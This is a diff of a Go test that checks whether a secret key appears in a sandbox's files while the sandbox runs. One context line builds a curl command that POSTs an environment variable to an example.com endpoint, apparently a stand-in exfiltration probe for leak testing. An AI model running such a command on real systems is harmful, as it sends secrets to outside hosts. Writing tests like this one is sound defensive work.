@@ -397,6 +397,12 @@ func (o *told) byHand(runtime string) {
 	if code != 0 || id == "" {
 		o.t.Fatalf("create: exit code %d", code)
 	}
+	// While it lives, too, as long as no program in it has written one.
+	found, _ := search(o.t, o.dir)
+	delete(found, "control")
+	for name, where := range found {
+		o.t.Errorf("while a sandbox lives, the key %s is in %s", name, strings.Join(where, "\n\t"))
+	}
 	fetch := fmt.Sprintf(`curl -sS -d "made=$MADE" https://example.com:%s/data -o data; echo %s`, o.echoed, nowhere["control"])
 	said := o.said
 	o.said = o.t.TempDir()
